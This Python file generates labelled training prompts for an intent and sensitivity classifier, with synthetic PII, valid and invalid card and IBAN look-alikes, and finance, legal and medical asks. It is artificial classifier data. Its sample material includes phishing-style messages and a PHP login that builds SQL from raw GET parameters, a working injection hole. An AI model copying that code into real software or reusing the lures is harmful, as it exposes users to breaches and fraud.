"""Fourth hand-written TRAIN corpus (writes ``train_diverse4.jsonl``).

Why it exists: the model scores well on its own templates but drops on
hand-written sets by other authors, mostly because real people do not type
like templates. This corpus is written in one more voice, by a different
author, without reading or running the classifier and without looking at any
model error: ordinary people and non-specialists typing quickly into an
assistant at work or at home -- lowercase, typos, fragments, questions rather
than imperatives, plain words with no domain jargon ("can my landlord keep my
deposit for a stain", "got a text saying my parcel is held, is it real"),
non-native English, asks in French/German/Spanish/Portuguese/Italian
(labelled by what is asked, not by the language), emoji, run-on multi-asks
("also", "and then", "oh and").

It leans on the boundaries that hand-written sets probe:
- general asks that merely mention money / health / law / passwords (a poem
  about my bank balance, a school absence note for a fever, a lawyer joke,
  the guest wifi password) -- so those words alone do not flip the domain;
- qa vs reasoning ("what is a statin" vs "should I take the statin"),
  draft vs creative (a fridge note vs a story), extract vs classify vs
  summarize on the same pasted material, chat vs a real ask, math vs
  finance qa ("how does compound interest work" vs "2,000 at 5% for 3
  years"), code vs security (a toy login page vs hashing passwords);
- rewriting English into better English is draft, not translate.

Label guide (kept consistent with the existing sets): domain is whose expert
you would ask -- personal money, tax, insurance cover, prices, budgets ->
finance; rights, disputes, appeals, contracts, employment law -> legal;
symptoms, drugs, care, health records -> medical; accounts, attacks,
phishing, access -> security; an office / social / creative ask that only
mentions such words -> general. A neutral ask ("tldr") takes the domain of
the material it acts on. Complexity is low unless the ask weighs options or
needs a multi-step argument (medium) or a long structured deliverable
(high). Sensitivity: internal for work material, confidential for personal
data (names, emails, phones, IPs, a person's health record, a salary),
restricted for cards, IBANs, SSNs and NRICs. Single first names ("jamie",
"Lena") are not marked as PERSON, as in the other sets.

Row format, one per line: ``[!]spec [=> clause] [;; spec => clause ...] | text``
where spec is ``intent d cx s [calc|retr|web|code]`` (d in g/f/l/m/s, cx in
l/m/h, s in p/i/c/r). A leading ``!`` marks a hard negative (PII-shaped
numbers that are not PII: order/ticket ids, versions, Luhn-failing 16-digit
numbers, IBAN-shaped strings with a wrong checksum, dates, amounts).
``{NAME}`` pastes material from ``_MAT`` (after a blank line) or a marked PII
value from ``_PII`` (inline); ``{BAD...}`` inserts an unmarked invalid value.
``\\n`` is a newline. Multi-task rows name each clause, in request order.
Usage: ``python tests/data/intent/train_diverse4_source.py``.
"""

# ruff: noqa: E501  (data tables: long literal phrasings read better unwrapped)

from __future__ import annotations

from corpus import (
    CARD_TOKEN,
    HERE,
    Placeholders,
    Row,
    check_lookalikes,
    iban_valid,
    line_rows,
    luhn_valid,
    mark,
    nric_check_letter,
    nric_valid,
    pv,
    write_and_check,
)


# --- valid identifier values, built from fixed bodies so the file is stable ---
def _card(body: str, sep: str) -> str:
    """Complete a card body with its Luhn digit and group it (Amex 4-6-5)."""
    num = next(body + d for d in "0123456789" if luhn_valid(body + d))
    groups = [num[:4], num[4:10], num[10:]] if len(num) == 15 else [
        num[i : i + 4] for i in range(0, len(num), 4)]  # fmt: skip
    return sep.join(groups)


def _iban(country: str, bban: str, spaced: bool) -> str:
    compact = country + pv._iban_check(country, bban) + bban
    if spaced:
        return " ".join(compact[i : i + 4] for i in range(0, len(compact), 4))
    return compact


def _bad_iban(country: str, bban: str, spaced: bool) -> str:
    """IBAN-shaped, right length, wrong check digits."""
    good = pv._iban_check(country, bban)
    bad = f"{(int(good) + 37) % 97 + 2:02d}"
    compact = country + bad + bban
    assert not iban_valid(compact)
    if spaced:
        return " ".join(compact[i : i + 4] for i in range(0, len(compact), 4))
    return compact


def _bad_card(body15: str, sep: str) -> str:
    """16 digits, card-shaped, failing Luhn."""
    good = _card(body15, "")
    num = good[:-1] + str((int(good[-1]) + 3) % 10)
    assert not luhn_valid(num)
    return sep.join(num[i : i + 4] for i in range(0, 16, 4))


def _nric(prefix: str, digits: str) -> str:
    return prefix + digits + nric_check_letter(prefix, digits)


def _bad_nric(prefix: str, digits: str) -> str:
    """NRIC-shaped, with a wrong check letter."""
    good = nric_check_letter(prefix, digits)
    return prefix + digits + ("A" if good != "A" else "B")


_PII = {
    # people
    "P1": mark("PERSON", "Marisol Ortega"),
    "P2": mark("PERSON", "Tomasz Wójcik"),
    "P3": mark("PERSON", "Aiyana Brooks"),
    "P4": mark("PERSON", "Hiroshi Nakamura"),
    "P5": mark("PERSON", "Fiona McAllister"),
    "P6": mark("PERSON", "Babajide Adeyemi"),
    "P7": mark("PERSON", "Lucía Fernández"),
    "P8": mark("PERSON", "Pieter van Dijk"),
    "P9": mark("PERSON", "Goh Siew Ling"),
    "P10": mark("PERSON", "Connor Byrne"),
    "P11": mark("PERSON", "Anjali Deshpande"),
    "P12": mark("PERSON", "Mateus Carvalho"),
    "P13": mark("PERSON", "Giulia Romano"),
    "P14": mark("PERSON", "Dmitri Volkov"),
    # emails
    "EM1": mark("EMAIL", "marisol.ortega82@gmail.com"),
    "EM2": mark("EMAIL", "t.wojcik@balticfreight.pl"),
    "EM3": mark("EMAIL", "aiyana_b@outlook.com"),
    "EM4": mark("EMAIL", "hiro.nakamura@kitsune-design.jp"),
    "EM5": mark("EMAIL", "reception@riverside-physio.co.uk"),
    "EM6": mark("EMAIL", "bookings@casa-lucia.es"),
    "EM7": mark("EMAIL", "pieter.vandijk@ziggo.nl"),
    "EM8": mark("EMAIL", "goh.siewling@singnet.com.sg"),
    "EM9": mark("EMAIL", "CONNOR.BYRNE@EIRCOM.NET"),
    "EM10": mark("EMAIL", "dvolkov+invoices@protonmail.com"),
    # phones, several national formats
    "PH1": mark("PHONE", "+44 7700 900581"),
    "PH2": mark("PHONE", "07700 900227"),
    "PH3": mark("PHONE", "(646) 555-0143"),
    "PH4": mark("PHONE", "+1 415-555-0198"),
    "PH5": mark("PHONE", "+49 151 2345 6789"),
    "PH6": mark("PHONE", "+33 6 12 34 56 78"),
    "PH7": mark("PHONE", "+65 9123 4567"),
    "PH8": mark("PHONE", "+91 98201 55432"),
    "PH9": mark("PHONE", "+61 412 555 019"),
    "PH10": mark("PHONE", "+34 612 34 56 78"),
    "PH11": mark("PHONE", "+55 11 98765-4321"),
    "PH12": mark("PHONE", "+39 347 123 4567"),
    "PH13": mark("PHONE", "0151 23456789"),
    "PH14": mark("PHONE", "+353 87 123 4567"),
    "PH15": mark("PHONE", "+65 6221 8840"),
    "PH16": mark("PHONE", "212.555.0176"),
    # cards: spaces, dashes, none; Visa, Mastercard (5x and 2x), Amex, Discover
    "V1": mark("CREDIT_CARD", _card("453201774418902", " ")),
    "V2": mark("CREDIT_CARD", _card("491766023315874", "-")),
    "M1": mark("CREDIT_CARD", _card("542418800731265", "-")),
    "M2": mark("CREDIT_CARD", _card("222300481177029", " ")),
    "A1": mark("CREDIT_CARD", _card("37828224631000", "")),
    "A2": mark("CREDIT_CARD", _card("34011235813213", " ")),
    "D1": mark("CREDIT_CARD", _card("601155210938471", "")),
    "V3": mark("CREDIT_CARD", _card("400009388271143", "")),
    # IBANs of several countries, spaced and unspaced
    "IB_DE": mark("IBAN", _iban("DE", "500105175407324931", True)),
    "IB_GB": mark("IBAN", _iban("GB", "NWBK60161331926819", False)),
    "IB_FR": mark("IBAN", _iban("FR", "30003012340001234567891", True)),
    "IB_ES": mark("IBAN", _iban("ES", "00491500051234567892", False)),
    "IB_NL": mark("IBAN", _iban("NL", "RABO0300065264", True)),
    "IB_IT": mark("IBAN", _iban("IT", "X0542811101000000123456", False)),
    "IB_PT": mark("IBAN", _iban("PT", "000201231234567890154", True)),
    "IB_IE": mark("IBAN", _iban("IE", "AIBK93115212345678", True)),
    "IB_BE": mark("IBAN", _iban("BE", "063123456789", False)),
    # US SSNs and Singapore NRIC/FINs
    "S1": mark("US_SSN", "431-72-0918"),
    "S2": mark("US_SSN", "219 09 4471"),
    "S3": mark("US_SSN", "537-18-2290"),
    "N1": mark("SG_NRIC", _nric("S", "8812345")),
    "N2": mark("SG_NRIC", _nric("T", "0398217")),
    "N3": mark("SG_NRIC", _nric("G", "5521873")),
    # IPv4 and IPv6
    "IP1": mark("IP_ADDRESS", "203.0.113.45"),
    "IP2": mark("IP_ADDRESS", "198.51.100.7"),
    "IP3": mark("IP_ADDRESS", "185.220.101.34"),
    "IP4": mark("IP_ADDRESS", "192.168.1.254"),
    "IP5": mark("IP_ADDRESS", "2001:db8:85a3::8a2e:370:7334"),
    "IP6": mark("IP_ADDRESS", "fe80::1c2b:3dff:fe4a:9e01"),
    "IP7": mark("IP_ADDRESS", "2a02:c7f:8d21:4e00::1"),
    "IP8": mark("IP_ADDRESS", "102.89.34.117"),
    "IP9": mark("IP_ADDRESS", "45.9.20.11"),
}

# unmarked look-alikes for hard negatives (each asserted invalid above)
_BAD = {
    "BADCARD1": _bad_card("601190334561772", " "),
    "BADCARD2": _bad_card("455673018824419", "-"),
    "BADCARD3": _bad_card("529901772340118", ""),
    "BADCARD4": _bad_card("411122093847712", " "),
    "BADIBAN1": _bad_iban("DE", "370400440532013000", True),
    "BADIBAN2": _bad_iban("GB", "MIDL40051512345678", False),
    "BADIBAN3": _bad_iban("FR", "20041010050500013402606", True),
    "BADIBAN4": _bad_iban("ES", "21000418450200051332", False),
    "BADNRIC1": _bad_nric("S", "7701234"),
}
assert not nric_valid(_BAD["BADNRIC1"])

_ROUTER = "\n".join(
    f"Oct 12 02:1{i}:0{i} DROP IN=eth0 SRC={mark('IP_ADDRESS', src)} "
    f"DST={mark('IP_ADDRESS', dst)} PROTO=TCP DPT={port}"
    for i, (src, dst, port) in enumerate(
        [
            ("185.220.101.34", "192.168.1.1", 22),
            ("185.220.101.34", "192.168.1.1", 23),
            ("185.220.101.34", "192.168.1.1", 8080),
            ("2a02:c7f:8d21:4e00::1", "fe80::1", 445),
        ]
    )
)

# pasted material: name -> text (marked PII inside)
_MAT = {
    "PARCEL": "Evri: We tried to deliver your parcel today but the address was incomplete. Update your details within 24h at evri-redelivery-help.com/uk or it will be returned to sender. Reply STOP to opt out",
    "BANKTXT": "Barclays: A payment of £749.00 to PAYPAL *ELECTROSHOP was attempted on your card. If this was NOT you, call our fraud team immediately on "
    + mark("PHONE", "+44 7700 900614")
    + ". Do not ignore this message.",
    "LOGIN": "Google\nNew sign-in to your account\n"
    + mark("EMAIL", "aiyana.brooks@gmail.com")
    + "\nWindows · Chrome · Lagos, Nigeria\nIP address: "
    + mark("IP_ADDRESS", "102.89.34.117")
    + "\nIf this was you, you don't need to do anything. If not, we'll help you secure your account.",
    "ROUTER": _ROUTER,
    "NETFLIX": "From: Netflix Billing <"
    + mark("EMAIL", "billing@netflix-account-update.net")
    + ">\nSubject: Your membership is on hold\nHi, we couldn't authorise your last payment. Please update your card details within 48 hours to keep watching.\n[UPDATE PAYMENT]\n- The Netflix Team",
    "LOGINPHP": "```php\n$user = $_GET['user'];\n$pass = $_GET['pass'];\n$res = mysqli_query($db, \"SELECT * FROM users WHERE name = '$user' AND pass = '$pass'\");\nif (mysqli_num_rows($res) > 0) { $_SESSION['ok'] = true; }\n```",
    "DEPOSIT": "Hi "
    + mark("PERSON", "Jade Fontaine")
    + ",\nAfter the checkout inspection we are keeping £420 of your deposit: £180 for carpet cleaning (stain in the bedroom), £150 for repainting the hallway and £90 for a missing kettle. The remaining £680 will be sent to your account within 10 days.\nRegards,\n"
    + mark("PERSON", "Gordon Pike")
    + ", Pike Lettings",
    "TENANCY": "7. The tenant must not keep pets at the property without written permission from the landlord. 8. The landlord may enter the property to carry out repairs after giving at least 24 hours' written notice, except in an emergency. 9. Either party may end this tenancy after the first 6 months by giving 2 months' notice in writing.",
    "OFFER": "We are pleased to offer you the role of Warehouse Supervisor at a salary of £31,500 per year. Your probation period is 6 months, during which either side may end employment with 1 week's notice; after probation, notice is 1 month. You agree not to work for a competitor within 20 miles for 12 months after leaving. Holiday: 25 days plus bank holidays.",
    "PAYSLIP": "Payslip - March\nEmployee: "
    + mark("PERSON", "Tomasz Wójcik")
    + "\nBasic pay 2,450.00\nOvertime 12h 216.00\nGross pay 2,666.00\nIncome tax -325.40\nNational Insurance -140.12\nPension 5% -133.30\nStudent loan -61.00\nNet pay 2,006.18",
    "STATEMENT": "02 Apr  SPOTIFY  -11.99\n03 Apr  LIDL 2291  -43.17\n05 Apr  TFR FROM "
    + mark("PERSON", "MARISOL ORTEGA")
    + "  +250.00\n07 Apr  AMAZON MKTPLACE  -29.99\n09 Apr  PUREGYM  -24.99\n11 Apr  SHELL PETROL  -58.40\n14 Apr  AMAZON MKTPLACE  -29.99\n15 Apr  RENT SO  -950.00",
    "CLAIM": "Dear "
    + mark("PERSON", "Babajide Adeyemi")
    + ", thank you for your claim for water damage to your kitchen. Unfortunately we are unable to accept it. Your policy excludes damage caused by gradual leaks over a period of time, and our assessor found the leak under the sink had been there for several months. If you disagree you can ask for our final response and then contact the Financial Ombudsman within 6 months.",
    "GPLETTER": "Dear "
    + mark("PERSON", "Fiona McAllister")
    + ", your blood test results are back. Your cholesterol is slightly raised (total 6.4) and your vitamin D is low (28 nmol/L). Everything else, including kidney and liver function, is normal. Please start vitamin D 1,000 units daily and book a review with the practice nurse in 3 months. There is no need to start a statin at this stage.",
    "LEAFLET": "Take one tablet two times a day with food. Do not drink alcohol while taking this medicine. May cause drowsiness; if affected do not drive. Do not take with other medicines containing paracetamol. Stop taking and see a doctor straight away if you get a rash, swelling of the face or difficulty breathing.",
    "SCHOOL": "Dear parents, we have had several cases of chickenpox in Year 2 this week. Children with spots should stay at home until all the spots have crusted over, usually about 5 days. Please let the office know if your child is unwell, and tell us if your child has a weakened immune system or if you are pregnant and not immune.",
    "MUMNOTES": "mum's meds (written by my sister): amlodipine 5mg morning, metformin 500mg twice a day with meals, atorvastatin 20mg at night, and she started co-codamol 30/500 for her back last week. she's been more confused and constipated since. GP appt thursday 10:40.",
    "WHATSAPP": "Lena: ok so the villa is 1,840 for 4 nights total\nMo: flights were 126 each\nLena: + car hire 210\nPriya: i paid the villa deposit of 460 already\nMo: i can sort the car, ping me on "
    + mark("PHONE", "+34 612 34 56 78")
    + "\nLena: someone book the airport transfer pls 🙏",
    "MEMO": "From facilities: the 3rd floor kitchen will be closed Mon-Wed next week for new flooring, please use the 2nd floor one. Bike racks move to the side entrance from the 1st. Fire drill Thursday 11am - it's real this time, no hiding in the loos. Lost property (3 umbrellas, one very nice scarf) goes to charity on Friday.",
    "REVIEWS": "1) coffee amazing but waited 25 min for a toastie 🙄\n2) lovely staff, my kids loved the hot chocolate\n3) overpriced for what it is. 4.80 for a flat white??\n4) best banana bread in town, will be back\n5) tables sticky and music way too loud",
    "PYBUG": "```python\ntotal = 0\nfor line in open('expenses.csv'):\n    name, amount = line.split(',')\n    total += amount\nprint('total spent:', total)\n```",
    "NEWS": "The Bank of England held interest rates at 5.25% on Thursday for the third time in a row, although two members voted for a cut. Mortgage lenders have already started trimming fixed rates, and the average two-year fix fell to 5.9% this week, down from 6.8% in the summer.",
    "PARKING": "PARKING CHARGE NOTICE\nYour vehicle was recorded at Riverside Retail Park on 02/03 from 14:02 to 17:45. Maximum stay 3 hours. Charge: £100, reduced to £60 if paid within 14 days. If you believe this charge was issued incorrectly you may appeal within 28 days using the web address below.",
    "HRMAIL": "Dear "
    + mark("PERSON", "Hiroshi Nakamura")
    + ", as discussed, your role is at risk of redundancy because the Leeds office is closing. You are invited to a consultation meeting on 14 May. You may bring a colleague or a trade union representative. We will also discuss any suitable alternative roles. Please confirm your attendance to "
    + mark("EMAIL", "people.team@northgate-logistics.co.uk")
    + ".",
    "RETRO": "what went well: demo went smooth, new intern is great. what didn't: the deploy broke login for 20 mins on tuesday, too many meetings, nobody owns the flaky test. ideas: no-meeting wednesdays, a rota for the test suite, write down the deploy steps.",
    "RECIPE": "Lemon drizzle cake (serves 8): 225g butter, 225g caster sugar, 4 eggs, 225g self-raising flour, zest of 1 lemon. Drizzle: juice of 1.5 lemons, 85g sugar. Bake 45-50 min at 180C, pour the drizzle on while warm.",
    "DADLETTER": "Patient: "
    + mark("PERSON", "Ernesto Vidal")
    + ", 78. Admitted with pneumonia, treated with IV antibiotics, now switched to tablets (co-amoxiclav 625mg three times a day for 5 more days). Oxygen weaned off. Walking with a frame. Discharge planned for Friday with carers visiting twice a day.",
    "COMPLAINT": "i've been on hold 3 times this week about my broadband, every time someone promises an engineer and nobody turns up. i work from home!! if this isnt fixed by friday im cancelling and telling everyone i know",
}

# ---------------------------------------------------------------- finance
FINANCE = r"""
math f l p calc | how much will i pay back in total on a 10k loan over 5 years at 6.9%? roughly is fine
qa f l p | whats APR and why is it different to the interest rate they show in big letters
qa f l p | if i only pay the minimum on my credit card every month what actualy happens
reasoning f m p | got offered 0% for 18 months on a new card. move my 3k balance over or just keep paying the old one off?
qa f l p | do i need to pay tax on selling cakes from home? its like 200 a month
qa f l p | credit score - who even decides that number
reasoning f m p | car insurance went up 40% at renewal and i had zero claims 😤 worth shopping around or is it the same everywhere now
qa f l p | does travel insurance pay out if i cancel the trip cause im sick
qa f l p | why does my bank charge me 3% when i pay by card on holiday
math f l p calc | i take home 2,650 a month and rent is 1,100. whats that as a percent
math f l p calc | if i put 50 a week aside from now until christmas, thats 14 weeks, how much will i have
reasoning f m p calc | new phone: pay 899 upfront, or 45 a month for 24 months with data included? sim only is 12/month. which is actually cheaper
qa f l p | what happens to my ISA if i move abroad for work
draft f l p | can you write something to my energy company, they took the direct debit twice this month and i want it back
draft f l p | help me ask my boss for an advance on my wages without sounding desperate
qa f l p | does getting a mortgage in principle hurt my credit rating
reasoning f m p | we have 20k saved. put all of it on the house deposit or keep some back because the roof needs doing in a year or two?
classify f l p | needs or nice to have: netflix, gym, car insurance, phone contract, spotify, council tax, takeaway coffee
qa f l p | quanto tempo demora pra cair a restituição do imposto de renda?
qa f l p | c'est quoi la différence entre un livret A et une assurance vie ? je comprends rien
qa f l p | was ist die Schufa und wie bekomme ich einen besseren Score
reasoning f m p | me conviene pagar la hipoteca antes de tiempo o invertir el dinero? tengo 38 años y dos hijos
math f l p calc | if 1 euro is 1.08 dollars how many euros do i get for 250 dollars
qa f l p web | whats the pound to euro rate today, going to spain tomorrow
qa f l p web | are mortgage rates going down this month or not? keep seeing headlines
reasoning f h p | me and my wife earn 85k between us, 2 kids (4 and 7), 14k left on the car loan at 8%, 6k savings, nothing put away for uni yet. can u make us a step by step money plan for the next 5 years - what first, what second, and why
code f l p | google sheets: how do i add up column B only where column A says 'food'
qa f l p | my friend says i should 'max out my employer match', what does that mean in normal words
reasoning f m p | is it dumb to buy a car on finance when i could buy a cheaper one with cash
qa f l p | wie funktioniert eigentlich eine Riester-Rente? kurz bitte
math f l p calc | salary went from 34k to 37.5k, what % raise is that
math f l p calc | loan is 9,000 at 7% and i pay 250 a month. if i pay 180 extra every month how much quicker is it gone
qa f l p | got a letter saying i owe tax from 2 years ago?? how is that even possible
reasoning f m p | the car dealer offers 2k cashback OR a lower interest rate. which one should i take, its a 20k car over 4 years
sentiment f l p | is this analyst comment positive about the bank or not: 'Solid quarter, but bad loans are creeping up and we think the dividend is at risk.'
extract f l p | pull out the prices and what each is for: 'annual fee 95, foreign transactions 0%, cash advance 3% min 3.00, late payment 12'
classify f l p | group these into bills, savings and fun money: rent 950, pension 120, cinema 24, isa 200, water 38, concert tix 85
reasoning f m p | is it better to get paid weekly or monthly money wise? my new job lets me choose
qa f l p | how much can i earn before i pay any income tax in the uk
qa f l p | my dad died and left me some money, do i pay inheritance tax or does that come out before
math f l p calc | how much interest will i get on 8,000 at 4.1% for one year, before tax
reasoning f m p | my partner wants one joint account for everything, i'd rather keep some separate. which works better money-wise for couples?
qa f l p | why did my phone bill go up in april, they said its 'CPI plus 3.9%'?? what does that even mean
qa f l p | how does compound interest work, like explain it to a 10 year old
math f l p calc | 2,000 at 5% compound for 3 years, how much at the end
qa f l p | what is a fixed rate mortgage
reasoning f m p | fixed or tracker mortgage? first time buyer and honestly nervous about rates going up
qa f l p | whats the difference between a debit card and a credit card if something goes wrong with a purchase
reasoning f m p | i want send money to my family in philippines every month, what is cheapest way, bank or app?
math f l p calc | i freelance at 350 a day, worked 17 days this month. minus 20% for tax, what do i keep
qa f l p | my payslip says tax code 1257L, what is that
reasoning f m p | i have 2k. pay off my overdraft (19%) or put it in savings for a rainy day?
qa f l i retr | whats our company's mileage rate for using my own car, the one in the expenses policy
qa f l p web | whats the price of bitcoin right now
draft f l p | write to the council asking to pay my council tax in 12 instalments not 10
sentiment f l p | how do people feel about the new pricing going by these: 'fair enough', 'robbery, cancelling', 'still cheaper than the others tbh'
classify f l p | tax deductible or not for a freelancer: laptop, home broadband, lunch, train to a client, new sofa
extract f l p | what are the amounts and dates here: 'deposit 500 due now, 1,200 on 1 july, the rest (2,300) two weeks before the wedding'
translate f l p | can u translate this letter from the tax office to english: 'Bitte reichen Sie die fehlenden Belege bis zum 15. März ein, sonst wird die Steuer geschätzt.'
summarize f l p | sum this up in 2 lines pls, i dont get any of it{NEWS}
reasoning f m p | with this news, should i fix my mortgage now for 2 years or wait a few months?{NEWS}
extract f l p | what's the old rate, the new rate, and the average 2 year fix mentioned{NEWS}
draft f l p | pls help me write short email to my insurance, i want cancel my car policy because i sold the car, and get money back for rest of the year
"""

# ---------------------------------------------------------------- legal
LEGAL = r"""
qa l l p | can my landlord keep my deposit for a stain on the carpet
qa l l p | is my boss allowed to make me work a bank holiday without extra pay
qa l l p | if i quit without notice can they take it out of my last paycheck
reasoning l m p | landlord wants to put the rent up 25% in the middle of the contract, says its that or leave. do i have to accept? what should i do
qa l l p | how long does my landlord have to fix the boiler? been 2 weeks with no hot water
qa l l p | can a shop refuse to refund something i bought online if i send it back within 10 days
reasoning l m p | my ex wont let me see the kids on my weekends anymore. what can i actually do about it
qa l l p | do i need a lawyer to make a will or can i just write one myself
qa l l p | what does 'without prejudice' mean at the top of an email
qa l l p | neighbours tree is hanging over my garden, am i allowed to cut the branches
reasoning l m p | got a parking ticket on private land, 100 quid. pay it or ignore it? my mates say ignore
qa l l p | can my employer read my whatsapp on my work phone
qa l l p | how long can they keep me on probation? its been 9 months now
qa l l p | i had a small crash, the other driver says it was my fault but it wasnt. who decides that?
draft l l p | write a letter to my landlord that the mould in the bedroom needs fixing and that its his responsibility by law
draft l l p | help me write a complaint to the airline, they cancelled 3 hrs before and only offered a voucher. i want my money back plus the compensation
qa l l p | do i have any rights if i bought a used car from a private seller and it broke down after a week
qa l l p | is it legal to film the police
qa l l p | whats the difference between getting fired and being made redundant
qa l l p | can my company stop me working for a competitor after i leave? its in my contract
reasoning l m p | my employer hasnt paid me for 2 weeks and keeps saying 'next friday'. what are my options and in what order should i try them
qa l l p | am i allowed to sublet my room while im travelling for 3 months
qa l l p | what is small claims court and how much does it cost
qa l l p | is a verbal agreement legally binding? i lent my mate 1,500 and nothing is written down
qa l l p | can i get in trouble for using a song in my youtube video if its only 10 seconds
qa l l p | ¿puede mi jefe despedirme por estar de baja médica?
qa l l p | mein Vermieter behält die ganze Kaution, darf der das einfach?
qa l l p | il mio datore di lavoro può cambiarmi turno senza preavviso?
qa l l p | est-ce que mon propriétaire peut entrer chez moi sans prévenir ?
draft l l p | can u write a short email cancelling my gym membership, they say 30 days notice in writing
classify l l p | which of these are criminal and which are civil: not paying rent, shoplifting, breaking a contract, drink driving, arguing with a neighbour about a fence
sentiment l l p | how threatening is this debt collector letter, should i be scared? 'Failure to respond within 7 days may result in further action being taken without further notice.'
translate l l p | translate this bit of my rental contract into english please: 'El arrendatario no podrá realizar obras en la vivienda sin el consentimiento por escrito del arrendador.'
math l l p calc | i worked there 6 years and 4 months, redundancy is one week's pay per full year and i get 540 a week. how much do i get
reasoning l h p | my little bakery is being sued by a customer who says she broke a tooth on a nut in a cake labelled nut-free. walk me through what happens next, what i should gather, whether to settle, and what it might cost, step by step
qa l l p | GDPR in plain english? does it even apply to my tiny etsy shop
extract l l p | pull the dates and deadlines out: 'You must respond by 21 June. The hearing is listed for 3 July at 10am. Any documents must be filed no later than 7 days before the hearing.'
qa l l p | what is a prenup exactly
reasoning l m p | should we get a prenup? i own a flat and he has some debts, we're getting married in may
qa l l p | my company not give me payslip since 3 months, is this allowed in uk?
qa l l p | what is a zero hours contract
qa l l p | can they sack me for something i posted on facebook on the weekend
classify l l p | is this a housing, employment or consumer problem: 'they changed my shifts and cut my hours without asking and now i cant pay rent'
sentiment l l p | how aggressive is this note from next door: 'This is your FINAL warning about the hedge. Next step is the council.'
qa l l p web | has the minimum wage gone up this april? whats the new rate
qa l l p | do i have to tell my employer im pregnant at the interview
reasoning l m p | a customer left a 1 star review calling me a scammer, its not true. can i make them take it down or should i just reply?
draft l h p | write me a simple lodger agreement for renting my spare room: rent, deposit, bills, notice, house rules, and a bit for signatures
qa l l p | wie lange muss ich Rechnungen und Belege als Selbstständiger aufheben?
reasoning l m c | can i fight this or nah{DEPOSIT}
extract l l c | list what they're taking off and how much for each{DEPOSIT}
qa l l p | so can the landlord just turn up whenever?{TENANCY}
summarize l l p | explain my tenancy rules in simple words, my english is not so good{TENANCY}
reasoning l m c | is the 20 miles thing even enforceable? should i sign or push back{OFFER}
summarize l l c | short version of this offer letter pls{OFFER}
extract l l c | notice periods and holiday from this, thats all i need{OFFER}
reasoning l m p | appeal or just pay the 60?{PARKING}
draft l l p | write my appeal, i was only 45 min over because the lift was broken and i was stuck with a pram{PARKING}
summarize l l c | what is this letter actually saying, in normal words{HRMAIL}
draft l l c | help me reply that ill come to the meeting and bring my union rep{HRMAIL}
reasoning l m c | they say insurance wont pay. can i fight it? whats my best move{CLAIM}
summarize l l p | can u summarise this in 1 line: 'You have the right to cancel this contract within 14 days without giving any reason. The cancellation period will expire after 14 days from the day of the conclusion of the contract.'
extract l l p | who are the two parties and whens the start date: 'This agreement is made on 1 September between Little Acorns Nursery Ltd and the parent or guardian named below.'
classify l l p | for each one, do i need a solicitor or can i do it myself: writing a will, small claims for 300, buying a house, contesting a parking ticket, getting divorced with kids
sentiment l l p | my manager wrote this after i raised a formal grievance, is it hostile? 'I'm disappointed you felt the need to go formal rather than talk to me first.'
creative l l p | catchy slogan for a tenants' rights meeting poster, know your rights kind of thing
draft l l p | write to the seller that the sofa arrived damaged and i want a replacement or a refund under my consumer rights
translate l l p | translate to english, its from a court in france: 'Vous êtes convoqué à l'audience du 12 mars à 9h00 au tribunal judiciaire de Lyon.'
math l l p calc | the court said i get 8% a year interest on the 2,400 they owe me, its been 200 days. how much interest is that
draft l l p | help me ask my employer for flexible working, 2 days from home because of childcare, and mention i know i have the legal right to ask
extract l l p | pull the notice period and the penalty out of this: 'Either party may terminate on 3 months notice. Early termination by the customer incurs a fee equal to the remaining monthly charges.'
reasoning l m p | we split up and he wants me out of the flat but both our names are on the lease. who has to leave?
"""

# ---------------------------------------------------------------- medical
MEDICAL = r"""
qa m l p | my kid has a rash and a fever, when do i need to take him to the doctor
qa m l p | is it ok to take ibuprofen on an empty stomach
qa m l p | how long does a stomach bug usually last
reasoning m m p | headaches every afternoon for 2 weeks now, i drink loads of coffee and stare at screens all day. what could it be and what should i try first
qa m l p | what does it mean if my period is late but the test is negative
qa m l p | can you get the flu jab and the covid one on the same day
qa m l p | my toddler swallowed a bit of toothpaste is that dangerous
qa m l p | how do i know if a cut needs stitches
reasoning m m p | my mum is 81 and keeps falling over at home, twice this month. what should we be looking at and who do we talk to
qa m l p | why does my back hurt more in the morning than at night
qa m l p | is it normal to feel sad for weeks after having a baby
qa m l p | whats normal blood pressure for a 60 year old
math m l p calc | baby weighs 7.2kg, bottle says 15mg per kg, syrup is 120mg in 5ml. how many ml do i give
math m l p calc | im 1.68m and 82kg whats my BMI
qa m l p | can i drink alcohol on antibiotics, just 1 beer
qa m l p | what are the signs of a stroke, my dad is getting old and i worry
qa m l p | does vitamin c actually do anything for colds
reasoning m m p | doctor offered me physio or a steroid injection for my shoulder. which would you pick and why
qa m l p | ich habe seit drei Tagen Durchfall, wann sollte ich zum Arzt gehen?
qa m l p | mi hija tiene tos por las noches desde hace una semana, es normal?
qa m l p | quais são os sintomas da dengue?
qa m l p | c'est grave si j'ai des vertiges quand je me lève trop vite ?
translate m l p | how do i say 'my son is allergic to penicillin' in italian, we're on holiday
draft m l p | write a note for my old neighbour reminding her which pills to take when, big letters, simple words: blue one morning, white one with dinner, half the small one at bed
classify m l p | which of these need A&E and which can wait for the GP: cut finger still bleeding after 20 min, sore throat 3 days, chest pain going down my left arm, mild earache, sudden confusion
sentiment m l p | does my doctor sound worried here or am i overthinking it: 'Your scan shows a small nodule. This is very common and usually harmless, but we would like to repeat the scan in 6 months.'
qa m l p | whats the difference between a cold and hay fever, i can never tell
qa m l p | how many hours of sleep does a 10 year old need
reasoning m h p | my dad just got diagnosed with type 2 diabetes. he's 66, loves bread, hates exercise, lives alone. can you put together a realistic 3 month plan for him - food, moving more, checks, questions for the doctor about meds, and how we as a family can help without nagging
qa m l p | is it safe to fly at 32 weeks pregnant
classify m l p | common or rare side effects of sertraline: feeling sick, trouble sleeping, seizures, dry mouth, unusual bleeding
qa m l p | what is a statin
reasoning m m p | my doctor wants me on a statin, cholesterol is 6.4 but i feel totally fine. should i take it or try diet first?
qa m l p | what is mean 'take on empty stomach'? before eat or after?
qa m l p | is it bad to crack my knuckles
sentiment m l p | how does this patient feel overall: 'the nurses were angels but i waited 9 hours in a corridor and nobody told me anything'
sentiment m l p | my dad wrote this in his notebook after chemo, is he more down than he lets on? 'tired today. didnt feel like calling anyone. maybe tomorrow.'
extract m l p | list all the times i need to take stuff: 'amoxicillin 3x a day for 7 days, ibuprofen every 8 hrs if needed, inhaler 2 puffs morning and night'
classify m l p | sort these into painkillers, antibiotics and vitamins: amoxicillin, ibuprofen, vitamin d, codeine, doxycycline, b12
draft m h p | make a care plan document for my gran that the carers can follow: her meds and times, appointments, who visits when, emergency contacts section, and what to do if she falls
